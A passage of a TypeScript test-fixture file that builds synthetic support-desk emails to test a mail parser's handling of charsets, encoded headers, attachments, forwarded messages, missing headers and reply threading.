--_000_AM9PR03MB70125B8C9D0E1F2A3B4C5D6E7F80AM9PR03MB7012eurp_--

--_004_AM9PR03MB70125B8C9D0E1F2A3B4C5D6E7F80AM9PR03MB7012eurp_
Content-Type: application/x-zip-compressed; name="sync-logs.zip"
Content-Description: sync-logs.zip
Content-Disposition: attachment; filename="sync-logs.zip"; size=${assets.logsZip.length};
\tcreation-date="Tue, 04 Mar 2025 10:11:40 GMT";
\tmodification-date="Tue, 04 Mar 2025 10:11:40 GMT"
Content-Transfer-Encoding: base64

${b64(assets.logsZip)}

--_004_AM9PR03MB70125B8C9D0E1F2A3B4C5D6E7F80AM9PR03MB7012eurp_--
`,
  ),
  m(
    '009-forward-as-attachment-rfc822',
    LF,
    `Return-Path: <ole.brun@example.org>
Message-ID: <b7c8d9e0-1f2a-4b3c-8d4e-5f6a7b8c9d0e@example.org>
Date: Tue, 4 Mar 2025 13:44:02 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
To: support@acme.example
From: Ole Brun <ole.brun@example.org>
Subject: Fwd: Your licence renewal (contract 2025-118)
Content-Type: multipart/mixed; boundary="------------Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2"

This is a multi-part message in MIME format.
--------------Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Is this renewal mail from you? The sender address looks odd to us.

Ole

--------------Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2
Content-Type: message/rfc822; name="Your licence renewal (contract 2025-118).eml"
Content-Disposition: attachment;
 filename="Your licence renewal (contract 2025-118).eml"

${forwardedOriginal}
--------------Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2--
`,
  ),
  m(
    '010-forward-nested-rfc822',
    CRLF,
    `From: Ingrid Berg <ingrid.berg@corp.example.com>
To: Service Desk <support@acme.example>
Subject: FW: FW: Suspicious renewal mail
Thread-Topic: FW: Suspicious renewal mail
Thread-Index: AdmOGx0ZndfZndfc3VzcGljaW91cw==
Date: Tue, 4 Mar 2025 14:20:55 +0000
Message-ID: <DB9PR02MB7321AA11BB22CC33DD44EE55FF66A@DB9PR02MB7321.eurprd02.prod.outlook.com>
Content-Language: en-US
X-MS-Has-Attach: yes
Content-Type: multipart/mixed;
\tboundary="_005_DB9PR02MB7321AA11BB22CC33DD44EE55FF66A_"
MIME-Version: 1.0

--_005_DB9PR02MB7321AA11BB22CC33DD44EE55FF66A_
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit

Forwarding what Ole sent us, with his original attached inside.

Ingrid

--_005_DB9PR02MB7321AA11BB22CC33DD44EE55FF66A_
Content-Type: message/rfc822
Content-Disposition: attachment; filename="Fwd Your licence renewal.eml"

Message-ID: <b7c8d9e0-1f2a-4b3c-8d4e-5f6a7b8c9d0e@example.org>
Date: Tue, 4 Mar 2025 13:44:02 +0100
MIME-Version: 1.0
To: ingrid.berg@corp.example.com
From: Ole Brun <ole.brun@example.org>
Subject: Fwd: Your licence renewal (contract 2025-118)
Content-Type: multipart/mixed; boundary="------------Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2"

--------------Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Is this renewal mail from you? The sender address looks odd to us.

--------------Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2
Content-Type: message/rfc822
Content-Disposition: attachment; filename="renewal.eml"

${forwardedOriginal}
--------------Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2--

--_005_DB9PR02MB7321AA11BB22CC33DD44EE55FF66A_--
`,
  ),
  m(
    '011-rfc2231-filenames',
    LF,
    `Return-Path: <jurgen.weiss@example.de>
From: =?UTF-8?Q?J=C3=BCrgen_Wei=C3=9F?= <jurgen.weiss@example.de>
To: support@acme.example
Subject: =?UTF-8?Q?=C3=84nderungsantrag_und_Stromz=C3=A4hler-Foto?=
Date: Wed, 5 Mar 2025 08:15:00 +0100
Message-ID: <20250305081500.GA14022@example.de>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=-=-=MuttBoundary5a1c=-=-="
User-Agent: Mutt/2.2.12 (2023-09-09)

--=-=-=MuttBoundary5a1c=-=-=
Content-Type: text/plain; charset=utf-8
Content-Disposition: inline
Content-Transfer-Encoding: 8bit

${u8(`Guten Morgen,

anbei der Änderungsantrag (PDF) und ein Foto des Zählers.

Grüße
Jürgen Weiß`)}

--=-=-=MuttBoundary5a1c=-=-=
Content-Type: application/pdf
Content-Disposition: attachment;
 filename*=UTF-8''%C3%84nderungsantrag%20M%C3%A4rz%202025.pdf
Content-Transfer-Encoding: base64

${b64(assets.scanPdf)}

--=-=-=MuttBoundary5a1c=-=-=
Content-Type: image/png; name="=?UTF-8?Q?Z=C3=A4hlerstand.png?="
Content-Disposition: attachment;
 filename*0*=UTF-8''Z%C3%A4hler;
 filename*1*=stand%20Keller.png
Content-Transfer-Encoding: base64

${b64(assets.logoPng)}

--=-=-=MuttBoundary5a1c=-=-=--
`,
  ),
  m(
    '012-outlook-winmail-tnef',
    CRLF,
    `From: Bjorn Dahl <bjorn.dahl@corp.example.com>
To: support@acme.example
Subject: Meeting notes attached
Date: Wed, 5 Mar 2025 09:40:21 +0100
Message-ID: <000001db8d9a$2c4f1e80$84ed5b80$@corp.example.com>
MIME-Version: 1.0
X-Mailer: Microsoft Outlook 16.0
Thread-Index: AdmOH3c0bWVldGluZ19ub3Rlcw==
Content-Language: nb
Content-Type: multipart/mixed;
\tboundary="----=_NextPart_000_0001_01DB8DA2.8E2A9E80"

This is a multipart message in MIME format.

------=_NextPart_000_0001_01DB8DA2.8E2A9E80
Content-Type: text/plain;
\tcharset="us-ascii"
Content-Transfer-Encoding: 7bit

Notes from today's meeting are in the attachment.

Bjorn

------=_NextPart_000_0001_01DB8DA2.8E2A9E80
Content-Type: application/ms-tnef;
\tname="winmail.dat"
Content-Transfer-Encoding: base64
Content-Disposition: attachment;
\tfilename="winmail.dat"

${b64(assets.tnef)}

------=_NextPart_000_0001_01DB8DA2.8E2A9E80--
`,
  ),
];

const CHARSETS: FixtureMail[] = [
  m(
    '013-encoded-word-utf8-b',
    LF,
    `Return-Path: <marta.kowalska@example.pl>
From: ${ewB('Marta Kowalska-Żółć', 'UTF-8', 30)} <marta.kowalska@example.pl>
To: ${ewB('ACME Kundeservice', 'UTF-8', 30)} <support@acme.example>
Subject: ${ewB('Zamówienie 88213: brak faktury – prośba o pilną wysyłkę 📄', 'UTF-8', 16)}
Date: Wed, 5 Mar 2025 10:01:33 +0100
Message-ID: <1741165293.518.marta@example.pl>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: base64

${b64(
  u8(`Dzień dobry,

do zamówienia 88213 nie dołączono faktury. Proszę o pilne przesłanie.

Z poważaniem,
Marta Kowalska-Żółć
`),
)}
`,
  ),
  m(
    '014-encoded-word-utf8-q-folded',
    LF,
    `Return-Path: <zoe.muller@example.ch>
From: ${ewQ('Zoë Müller')} <zoe.muller@example.ch>
To: support@acme.example
Cc: ${ewQ('Frédéric Noël')} <f.noel@example.ch>
Subject: ${ewQ('Rückfrage zur Lieferung:')}
 ${ewQ(' Größe & Gewicht der Palette')}
 ${ewQ(' (Auftrag Nr. 4410)')}
Date: Wed, 5 Mar 2025 10:30:12 +0100
Message-ID: <5d1e2f3a4b5c6d7e@example.ch>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

${qp(
  u8(`Grüezi,

wie groß und wie schwer ist die Palette für Auftrag 4410? Unser Lift trägt höchstens 500 kg.

Freundliche Grüße
Zoë Müller`),
)}
`,
  ),
  m(
    '015-iso-8859-1-headers-and-body',
    LF,
    `Return-Path: <jose.garcia@example.es>
From: ${ewQ('José García', 'ISO-8859-1')} <jose.garcia@example.es>
To: support@acme.example
Subject: ${ewQ('Factura de marzo: ¿por qué el importe es más alto?', 'ISO-8859-1')}
Date: Wed, 5 Mar 2025 11:11:11 +0100
Message-ID: <20250305101111.5F1A2B3C@smtp.example.es>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: quoted-printable
X-Mailer: Microsoft Outlook Express 6.00.2900.5512

${qp(
  bytes(
    `Buenos días:

La factura de marzo es un 12 % más alta que la de febrero. ¿Podrían explicarme el motivo?

Un saludo,
José García · Contabilidad`,
    'iso-8859-1',
  ),
)}
`,
  ),
  m(
    '016-iso-2022-jp',
    LF,
    `Return-Path: <tanaka@example.co.jp>
From: ${ewB('田中 太郎', 'ISO-2022-JP', 20)} <tanaka@example.co.jp>
To: support@acme.example
Subject: ${ewB('請求書の再発行について', 'ISO-2022-JP', 20)}
Date: Thu, 6 Mar 2025 09:12:40 +0900
Message-ID: <20250306091240.A1B2C3D4E5@mail.example.co.jp>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: 7bit
X-Mailer: Becky! ver. 2.81.04

${bytes(
  `サポート御中

先月の請求書を紛失しました。
再発行をお願いできますでしょうか。

よろしくお願いいたします。
田中 太郎`,
  'iso-2022-jp',
)}
`,
  ),
  m(
    '017-koi8-r',
    LF,
    `Return-Path: <ivanov@example.ru>
From: ${ewB('Иван Иванов', 'KOI8-R', 20)} <ivanov@example.ru>
To: support@acme.example
Subject: ${ewB('Не работает синхронизация', 'KOI8-R', 30)}
Date: Thu, 6 Mar 2025 07:45:00 +0300
Message-ID: <1741236300.123456@mail.example.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset=KOI8-R
Content-Transfer-Encoding: 8bit

${bytes(
  `Здравствуйте!

С понедельника не работает синхронизация календаря.
Ошибка: «доступ запрещён».

С уважением,
Иван Иванов`,
  'koi8-r',
)}
`,
  ),
  m(
    '018-windows-1252-body',
    CRLF,
    `From: "O'Brien, Siobhan" <siobhan.obrien@corp.example.ie>
To: <support@acme.example>
Subject: Price list - "Premium" tier
Date: Thu, 6 Mar 2025 10:02:17 +0000
Message-ID: <002a01db8e7f$4c2d1b30$e4875190$@corp.example.ie>
MIME-Version: 1.0
Content-Type: text/plain;
\tcharset="windows-1252"
Content-Transfer-Encoding: 8bit
X-Mailer: Microsoft Outlook 16.0
Thread-Index: AdmOfz0ScHJpY2VfbGlzdA==
Content-Language: en-ie

${bytes(
  `Hi,

Your price list says the “Premium” tier costs €49 per user – is that per month or per year?
We’d need 40 seats… and a quote by Friday.

Thanks,
Siobhán`,
  'windows-1252',
)}
`,
  ),
  m(
    '019-8bit-text-no-charset',
    LF,
    `Return-Path: <lager@example.no>
From: Lager Nord <lager@example.no>
To: support@acme.example
Subject: Vareleveranse uke 10
Date: Thu, 6 Mar 2025 06:30:00 +0100
Message-ID: <20250306053000.12345@lager.example.no>
MIME-Version: 1.0
Content-Type: text/plain
Content-Transfer-Encoding: 8bit

${bytes(
  `Hei,

leveransen for uke 10 er forsinket. Nye datoer:
- Tønsberg: fredag
- Bodø: mandag
- Ålesund: ukjent

Mvh
Lager Nord – Bjørn`,
  'iso-8859-1',
)}
`,
  ),
  m(
    '020-no-mime-headers-utf8-bytes',
    LF,
    `Return-Path: <root@backup01.acme.example>
Received: by backup01.acme.example (Postfix, from userid 0)
\tid 6A1B2C3D4E; Thu,  6 Mar 2025 03:00:02 +0100 (CET)
From: root@backup01.acme.example (Cron Daemon)
To: support@acme.example
Subject: Cron <root@backup01> /usr/local/bin/nightly-backup.sh
Date: Thu, 6 Mar 2025 03:00:02 +0100
Message-Id: <20250306020002.6A1B2C3D4E@backup01.acme.example>

${u8(`nightly-backup: 14 of 15 volumes OK
nightly-backup: volume "Økonomi-arkiv" FAILED: rsync exit code 23 (partial transfer)
nightly-backup: see /var/log/backup/2025-03-06.log`)}
`,
  ),
];

const MISSING: FixtureMail[] = [
  m(
    '021-no-message-id-scanner',
    LF,
    `Return-Path: <scanner@corp.example.com>
Received: from MFP-3F-EAST (mfp-3f-east.corp.example.com [10.20.3.15])
\tby relay.corp.example.com (Postfix) with ESMTP id 3C4D5E6F70
\tfor <support@acme.example>; Thu,  6 Mar 2025 13:02:44 +0100 (CET)
From: "MFP-3F-EAST" <scanner@corp.example.com>
To: support@acme.example
Subject: Scanned document from MFP-3F-EAST
Date: Thu, 6 Mar 2025 13:02:41 +0100
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="MFP_Boundary_20250306130241"
X-Mailer: Sharp MX-3071 Scan

--MFP_Boundary_20250306130241
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Scanned at 13:02 on MFP-3F-EAST (3rd floor, east wing).
Pages: 1

--MFP_Boundary_20250306130241
Content-Type: application/pdf; name="scan_20250306_130241.pdf"
Content-Disposition: attachment; filename="scan_20250306_130241.pdf"
Content-Transfer-Encoding: base64

${b64(assets.scanPdf)}
--MFP_Boundary_20250306130241--
`,
  ),
  m(
    '022-no-date',
    LF,
    `Return-Path: <alerts@monitor.acme.example>
Received: from monitor.acme.example (monitor.acme.example [198.51.100.40])
\tby mx.acme.example (Postfix) with ESMTP id 7E8F9A0B1C
\tfor <support@acme.example>; Thu,  6 Mar 2025 14:15:09 +0100 (CET)
From: Monitoring <alerts@monitor.acme.example>
To: support@acme.example
Subject: [ALERT] disk /var above 90% on app03
Message-ID: <alert-app03-var-1741266909@monitor.acme.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Host: app03
Check: disk /var
State: WARNING (91% used, 4.1 GiB free)
Since: 2025-03-06 14:15:08 CET
`,
  ),
  m(
    '023-no-from',
    LF,
    `Return-Path: <>
Received: from localhost (localhost [127.0.0.1])
\tby legacy-erp.corp.example.com (Postfix) with SMTP id 9A0B1C2D3E
\tfor <support@acme.example>; Thu,  6 Mar 2025 15:00:00 +0100 (CET)
To: support@acme.example
Subject: ERP export finished with warnings
Date: Thu, 6 Mar 2025 15:00:00 +0100
Message-ID: <erp-export-20250306150000@legacy-erp.corp.example.com>

Export job EXP-7 finished with 3 warnings:
  W101 customer 10442 has no VAT number
  W101 customer 10917 has no VAT number
  W230 price list "Premium" missing currency
`,
  ),
  m(
    '024-empty-body',
    CRLF,
    `From: Per Hansen <per.hansen@corp.example.com>
To: support@acme.example
Subject: please call me back on +47 400 00 000
Date: Thu, 6 Mar 2025 15:30:02 +0000
Message-ID: <AM9PR03MB7012C0FFEE00112233445566@AM9PR03MB7012.eurprd03.prod.outlook.com>
MIME-Version: 1.0
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit

`,
  ),
];

// Conversation A: ticket 4711 in SuperOffice. A customer writes (Outlook), the agent answers from
// SuperOffice with the subject tag, the customer replies with In-Reply-To/References, then replies
// again from a phone client that drops both headers and keeps only the tag (the threading fallback).
const A1 = '<DB9PR02MB73219F8E7D6C5B4A3928170F6E5D4@DB9PR02MB7321.eurprd02.prod.outlook.com>';
const A2 = '<20250307081502.4711.2.7f3a@service.acme.example>';
const A3 = '<DB9PR02MB7321A0B1C2D3E4F5061728394A5B6@DB9PR02MB7321.eurprd02.prod.outlook.com>';
const A4 = '<A6B7C8D9-E0F1-4A2B-9C3D-4E5F60718293@corp.example.com>';

const THREAD_A: FixtureMail[] = [
  m(
    '025-thread-a1-customer-request',
    CRLF,
    `From: Ingrid Berg <ingrid.berg@corp.example.com>
To: Service Desk <support@acme.example>
Subject: Printer on 3rd floor offline
Thread-Topic: Printer on 3rd floor offline
Thread-Index: AdmP0a1wcmludGVyX29mZmxpbmU=
Date: Fri, 7 Mar 2025 07:58:12 +0000
Message-ID: ${A1}
Content-Language: en-US
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit
MIME-Version: 1.0

Hi,

the printer MFP-3F-EAST shows "offline" for everybody since 08:30.
Power-cycling did not help.

Ingrid
`,
  ),
  m(
    '026-thread-a2-agent-reply-ejtag',
    LF,
    `Return-Path: <support@acme.example>
From: ACME Service Desk <support@acme.example>
To: Ingrid Berg <ingrid.berg@corp.example.com>
Subject: RE: Printer on 3rd floor offline [ejTag: 4711]
Date: Fri, 7 Mar 2025 09:15:02 +0100
Message-ID: ${A2}
In-Reply-To: ${A1}
References: ${A1}
X-Mailer: SuperOffice Service
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="=_so_4711_2_b1e2"

--=_so_4711_2_b1e2
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

${qp(
  u8(`Hi Ingrid,

we have restarted the print server queue for MFP-3F-EAST. Can you try again and let us know?

Best regards
Anders – ACME Service Desk
Case 4711`),
)}

--=_so_4711_2_b1e2
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

${qp(u8(`<html><body><p>Hi Ingrid,</p><p>we have restarted the print server queue for MFP-3F-EAST. Can you try again and let us know?</p><p>Best regards<br>Anders – ACME Service Desk<br>Case 4711</p></body></html>`))}

--=_so_4711_2_b1e2--
`,
  ),
  m(
    '027-thread-a3-customer-reply',
    CRLF,
    `From: Ingrid Berg <ingrid.berg@corp.example.com>
To: ACME Service Desk <support@acme.example>
Subject: RE: Printer on 3rd floor offline [ejTag: 4711]
Thread-Topic: Printer on 3rd floor offline [ejTag: 4711]
Thread-Index: AdmP0a1wcmludGVyX29mZmxpbmU=AdmP1c0y
Date: Fri, 7 Mar 2025 08:40:33 +0000
Message-ID: ${A3}
References: ${A1}
 ${A2}
In-Reply-To: ${A2}
Content-Language: en-US
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64
MIME-Version: 1.0

${b64(
  u8(`It prints again, thanks! But scan-to-email still fails with "SMTP auth error".

Ingrid

From: ACME Service Desk <support@acme.example>
Sent: Friday, March 7, 2025 9:15 AM
To: Ingrid Berg <ingrid.berg@corp.example.com>
Subject: RE: Printer on 3rd floor offline [ejTag: 4711]

Hi Ingrid,

we have restarted the print server queue for MFP-3F-EAST. Can you try again and let us know?

Best regards
Anders – ACME Service Desk
Case 4711
`),
)}
`,
  ),
  m(
    '028-thread-a4-reply-tag-only',
    LF,
    `Return-Path: <ingrid.berg@corp.example.com>
From: Ingrid Berg <ingrid.berg@corp.example.com>
To: support@acme.example
Subject: Sv: RE: Printer on 3rd floor offline [ejTag: 4711]
Date: Mon, 10 Mar 2025 08:05:10 +0100
Message-ID: ${A4}
MIME-Version: 1.0 (1.0)
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable
X-Mailer: iPhone Mail (22D72)

${qp(
  u8(`Scan works again after the weekend. You can close the case.

Sendt fra min iPhone`),
)}
`,
  ),
];

// Conversation B: a customer (Thunderbird) and a colleague (Gmail) discuss an API change; the third
// mail carries a full References chain, the fourth (a client that writes References only) a long
// folded chain with an older unrelated id first.
const B1 = '<7a1b2c3d-4e5f-4061-8273-94a5b6c7d8e9@example.org>';
const B2 = '<CAH9pLm2vQ0x+T7kR4nZyS8dJ1wF6bA3eG5hU0cKoPqXr=Lm9Qg@mail.gmail.com>';
const B3 = '<c0d1e2f3-a4b5-4c6d-9e7f-8091a2b3c4d5@example.org>';
const B4 = '<87h6kq2x4n.fsf@nils.example.net>';
const B0 = '<old-thread-2024-11-02.1730553600@example.org>';

const THREAD_B: FixtureMail[] = [
  m(
    '029-thread-b1-initial-thunderbird',
    LF,
    `Return-Path: <ole.brun@example.org>
Message-ID: ${B1}
Date: Mon, 10 Mar 2025 10:00:00 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: nb
To: support@acme.example
Cc: Lars Olsen <lars.olsen.1987@gmail.com>
From: Ole Brun <ole.brun@example.org>
Subject: API: TicketMessage PUT returns 400
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

${u8(`Hei,

our integration gets "400 Entity to save is not in request body" from
PUT /api/v1/TicketMessage/{id} since the upgrade. Same payload worked
last week. Lars (cc) can send a sample.

Ole`)}
`,
  ),
  m(
    '030-thread-b2-gmail-reply',
    LF,
    `Delivered-To: support@acme.example
MIME-Version: 1.0
References: ${B1}
In-Reply-To: ${B1}
From: Lars Olsen <lars.olsen.1987@gmail.com>
Date: Mon, 10 Mar 2025 10:21:44 +0100
Message-ID: ${B2}
Subject: Re: API: TicketMessage PUT returns 400
To: Ole Brun <ole.brun@example.org>
Cc: support@acme.example
Content-Type: multipart/alternative; boundary="0000000000001f2e3d062f8a9b7c"

--0000000000001f2e3d062f8a9b7c
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

${qp(
  u8(`Sample request body (headers trimmed):

{"EjMessageId": 812, "Body": "test", "Type": "Plain"}

It is sent with Content-Type: application/json; charset=utf-8.

On Mon, 10 Mar 2025 at 10:00, Ole Brun <ole.brun@example.org> wrote:
> Hei,
>
> our integration gets "400 Entity to save is not in request body" from
> PUT /api/v1/TicketMessage/{id} since the upgrade.`),
)}

--0000000000001f2e3d062f8a9b7c
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

${qp(u8(`<div dir="ltr"><div>Sample request body (headers trimmed):</div><div><br></div><div><span style="font-family:monospace">{&quot;EjMessageId&quot;: 812, &quot;Body&quot;: &quot;test&quot;, &quot;Type&quot;: &quot;Plain&quot;}</span></div><div><br></div><div>It is sent with Content-Type: application/json; charset=utf-8.</div></div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, 10 Mar 2025 at 10:00, Ole Brun &lt;<a href="mailto:ole.brun@example.org">ole.brun@example.org</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Hei,<br><br>our integration gets &quot;400 Entity to save is not in request body&quot; from<br>PUT /api/v1/TicketMessage/{id} since the upgrade.</blockquote></div>`))}

--0000000000001f2e3d062f8a9b7c--
`,
  ),
  m(
    '031-thread-b3-reply-to-reply',
    LF,
    `Return-Path: <ole.brun@example.org>
Message-ID: ${B3}
Date: Mon, 10 Mar 2025 11:02:19 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Subject: Re: API: TicketMessage PUT returns 400
To: Lars Olsen <lars.olsen.1987@gmail.com>, support@acme.example
References: ${B1}
 ${B2}
From: Ole Brun <ole.brun@example.org>
Content-Language: nb
In-Reply-To: ${B2}
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Found it: the proxy strips bodies on PUT when Transfer-Encoding is
chunked. Sending Content-Length fixes it. Support: please close.

On 10.03.2025 10:21, Lars Olsen wrote:
> Sample request body (headers trimmed):
>
> {"EjMessageId": 812, "Body": "test", "Type": "Plain"}
`,
  ),
  m(
    '032-thread-b4-references-only',
    LF,
    `Return-Path: <nils@example.net>
From: Nils Aas <nils@example.net>
To: support@acme.example
Subject: Re: API: TicketMessage PUT returns 400
References: ${B0} ${B1}
 ${B2}
 ${B3}
Date: Mon, 10 Mar 2025 12:40:00 +0100
Message-ID: ${B4}
User-Agent: Gnus/5.13 (Gnus v5.13)
MIME-Version: 1.0
Content-Type: text/plain

We hit the same proxy issue last year; chunked PUTs are dropped by
the old appliance. Upgrading its firmware fixed it for us.
`,
  ),
];

const MOBILE_AND_HEADERS: FixtureMail[] = [
  m(
    '033-iphone-plain',
    LF,
    `Return-Path: <sofie.lund@example.dk>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable
From: Sofie Lund <sofie.lund@example.dk>
Mime-Version: 1.0 (1.0)
Date: Mon, 10 Mar 2025 13:13:13 +0100
Subject: Wifi in meeting room
Message-Id: <F1E2D3C4-B5A6-4978-8695-A4B3C2D1E0F9@example.dk>
To: support@acme.example
X-Mailer: iPhone Mail (22D72)

${qp(
  u8(`The guest wifi in meeting room “Fjord” asks for a password nobody knows 🙈

Sendt fra min iPhone`),
)}
`,
  ),
  m(
    '034-android-gmail-app',
    CRLF,
    `MIME-Version: 1.0
From: Lars Olsen <lars.olsen.1987@gmail.com>
Date: Mon, 10 Mar 2025 14:02:51 +0100
Message-ID: <CAF3x9qPq1Zr7yW0x+eN4uK2cVb8mA5sT6dH9gJ3fL0oR1iE2wQ@mail.gmail.com>
Subject: Photos of the damaged stand
To: support@acme.example
Content-Type: multipart/mixed; boundary="000000000000c4d5e6062f8c0a1b"

--000000000000c4d5e6062f8c0a1b
Content-Type: multipart/alternative; boundary="000000000000c4d5e3062f8c0a19"

--000000000000c4d5e3062f8c0a19
Content-Type: text/plain; charset="UTF-8"

Here is the photo. Order 55120.

--000000000000c4d5e3062f8c0a19
Content-Type: text/html; charset="UTF-8"

<div dir="auto">Here is the photo. Order 55120.</div>

--000000000000c4d5e3062f8c0a19--
--000000000000c4d5e6062f8c0a1b
Content-Type: image/png; name="IMG_20250310_135812.png"
Content-Disposition: attachment; filename="IMG_20250310_135812.png"
Content-Transfer-Encoding: base64
Content-ID: <f_m80q1z7c0>
X-Attachment-Id: f_m80q1z7c0

${b64(assets.screenshotPng)}
--000000000000c4d5e6062f8c0a1b--
`,
  ),
  m(
    '035-outlook-ios',
    CRLF,
    `From: Bjorn Dahl <bjorn.dahl@corp.example.com>
To: "support@acme.example" <support@acme.example>
Subject: Laptop won't charge
Thread-Topic: Laptop won't charge
Thread-Index: AQHbkZ1sYXB0b3Bfd29udF9jaGFyZ2U=
Date: Mon, 10 Mar 2025 15:20:00 +0000
Message-ID: <PAXPR02MB7890D1E2F3A4B5C6D7E8F9A0B1C2@PAXPR02MB7890.eurprd02.prod.outlook.com>
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
Content-Type: multipart/alternative;
\tboundary="_000_PAXPR02MB7890D1E2F3A4B5C6D7E8F9A0B1C2PAXPR02MB7890eurp_"
MIME-Version: 1.0

--_000_PAXPR02MB7890D1E2F3A4B5C6D7E8F9A0B1C2PAXPR02MB7890eurp_
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64

${b64(
  u8(`My laptop (asset 30217) stopped charging. The LED stays off with two different chargers.

Get Outlook for iOS<https://aka.ms/o0ukef>
`),
)}

--_000_PAXPR02MB7890D1E2F3A4B5C6D7E8F9A0B1C2PAXPR02MB7890eurp_
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: base64

${b64(u8(`<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><div dir="auto">My laptop (asset 30217) stopped charging. The LED stays off with two different chargers.</div><div dir="auto"><br></div><div id="ms-outlook-mobile-signature" dir="auto">Get <a href="https://aka.ms/o0ukef">Outlook for iOS</a></div></body></html>`))}

--_000_PAXPR02MB7890D1E2F3A4B5C6D7E8F9A0B1C2PAXPR02MB7890eurp_--
`,
  ),
  m(
    '036-priority-urgent-all-headers',
    CRLF,
    `From: Ingrid Berg <ingrid.berg@corp.example.com>
To: support@acme.example
Subject: Production down: ERP not reachable
Date: Tue, 11 Mar 2025 06:55:00 +0000
Message-ID: <000101db9240$5a6b7c80$0f1e2d3c$@corp.example.com>
MIME-Version: 1.0
X-Priority: 1 (Highest)
X-MSMail-Priority: High
Importance: High
Priority: urgent
X-Mailer: Microsoft Outlook 16.0
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit

ERP (erp.corp.example.com) has been unreachable since 07:40. All warehouses are
blocked. Please call +47 400 00 001.
`,
  ),
  m(
    '037-priority-low',
    LF,
    `Return-Path: <nils@example.net>
From: Nils Aas <nils@example.net>
To: support@acme.example
Subject: Typo on the pricing page
Date: Tue, 11 Mar 2025 09:00:00 +0100
Message-ID: <87a5b6c7d8.fsf@nils.example.net>
X-Priority: 5 (Lowest)
Importance: low
Priority: non-urgent
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

"Enterprize" should be "Enterprise" in the third column. No hurry.
`,
  ),
  m(
    '038-cc-bcc-reply-to-sender',
    LF,
    `Return-Path: <assistant@corp.example.com>
From: Ingrid Berg <ingrid.berg@corp.example.com>
Sender: Office Assistant <assistant@corp.example.com>
Reply-To: Finance Team <finance@corp.example.com>, ingrid.berg@corp.example.com
To: ACME Service Desk <support@acme.example>, "Account Manager, ACME" <am@acme.example>
Cc: "Hansen, Per" <per.hansen@corp.example.com>,
 ${ewQ('Bjørn Dahl')} <bjorn.dahl@corp.example.com>
Bcc: audit@corp.example.com
Subject: Contract renewal 2025 - who signs?
Date: Tue, 11 Mar 2025 10:30:00 +0100
Message-ID: <20250311093000.3F2E1D0C@assistant.corp.example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

${u8(`(Sent on behalf of Ingrid Berg)

Who on your side signs the 2025 renewal? Please answer to the finance team.`)}
`,
  ),
  m(
    '039-undisclosed-recipients-group',
    LF,
    `Return-Path: <newsletter@partner.example>
From: Partner News <newsletter@partner.example>
To: undisclosed-recipients:;
Subject: Maintenance window Saturday 15 March
Date: Tue, 11 Mar 2025 12:00:00 +0100
Message-ID: <maint-2025-03-15@partner.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii

Our data centre will be in maintenance on Saturday 15 March, 22:00-02:00 CET.
`,
  ),
];

const AUTO: FixtureMail[] = [
  m(
    '040-auto-reply-rfc3834',
    LF,
    `Return-Path: <>
From: Ole Brun <ole.brun@example.org>
To: ACME Service Desk <support@acme.example>
Subject: Auto: RE: Printer on 3rd floor offline [ejTag: 4711]
Date: Fri, 7 Mar 2025 09:15:09 +0100
Message-ID: <autoreply.1741335309.ole.brun@example.org>
In-Reply-To: ${A2}
References: ${A2}
Auto-Submitted: auto-replied (vacation)
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

${u8(`I am away until 17 March with limited access to e-mail.
